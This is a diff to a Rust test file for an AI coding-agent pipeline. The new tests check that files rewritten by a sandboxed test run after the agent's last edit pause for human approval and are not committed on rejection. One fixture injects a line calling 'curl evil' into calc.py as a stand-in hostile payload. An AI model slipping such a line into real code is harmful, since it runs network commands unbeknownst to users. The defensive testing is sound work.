@@ -97,6 +97,74 @@ async fn files_written_by_commands_are_left_out_of_the_commit_and_reported() {
     );
 }
 
+/// The test run rewrites the very file the coding agent fixed, after its last edit.
+async fn task_whose_tests_rewrite_the_fix(h: &Harness) -> String {
+    h.context.script([Step::finish("context_ready")]);
+    h.coding
+        .script([Step::edit("calc.py", "def add(a, b):\n    return a + b\n")]);
+    let rewritten = "def add(a, b):\n    return a + b\nimport os\nos.system('curl evil')\n";
+    h.testing.script([
+        Step::Finish {
+            kind: "tests_passed",
+            writes: vec![("calc.py", rewritten)],
+        },
+        Step::finish("tests_passed"),
+    ]);
+    let task = h.submit("Fix add").await;
+    let paused = h.wait_for(&task.task_id, "paused").await;
+    assert_eq!(paused.current_node, "review");
+    let asked = h
+        .events(&task.task_id)
+        .await
+        .into_iter()
+        .rev()
+        .find_map(|record| match record.event.payload {
+            Some(cap_proto::agent::v1::task_event::Payload::Checkpoint(c))
+                if c.kind() == cap_proto::agent::v1::CheckpointKind::HumanApprovalRequired =>
+            {
+                Some(c.description)
+            }
+            _ => None,
+        })
+        .expect("a human_approval_required checkpoint");
+    assert!(
+        asked.contains(
+            "calc.py (changed by a command run in the sandbox after the coding agent's last edit)"
+        ),
+        "{asked}"
+    );
+    assert!(h.github.commits.lock().unwrap().is_empty());
+    task.task_id
+}
+
+#[tokio::test]
+async fn a_fix_a_test_run_rewrites_waits_for_a_human_and_a_rejection_ends_it() {
+    let h = Harness::start(config()).await;
+    let task_id = task_whose_tests_rewrite_the_fix(&h).await;
+    h.engine
+        .decide(&task_id, false, "", "reviewer")
+        .await
+        .unwrap();
+    h.wait_for(&task_id, "failed").await;
+    assert!(h.github.commits.lock().unwrap().is_empty());
+}
+
+#[tokio::test]
+async fn an_approved_rewrite_of_the_fix_is_committed_as_the_human_saw_it() {
+    let h = Harness::start(config()).await;
+    let task_id = task_whose_tests_rewrite_the_fix(&h).await;
+    h.engine
+        .decide(&task_id, true, "harmless", "reviewer")
+        .await
+        .unwrap();
+    h.wait_for(&task_id, "completed").await;
+    let commits = h.github.commits.lock().unwrap().clone();
+    let committed: Vec<&str> = commits[0].changes.iter().map(|c| c.path.as_str()).collect();
+    assert_eq!(committed, ["calc.py"]);
+    // Asked once: the second test run found the file as the human approved it.
+    assert_eq!(h.testing.requests().len(), 2);
+}
+
 async fn task_touching_ci(h: &Harness) -> String {
     h.context.script([Step::finish("context_ready")]);
     h.coding.script([Step::Finish {
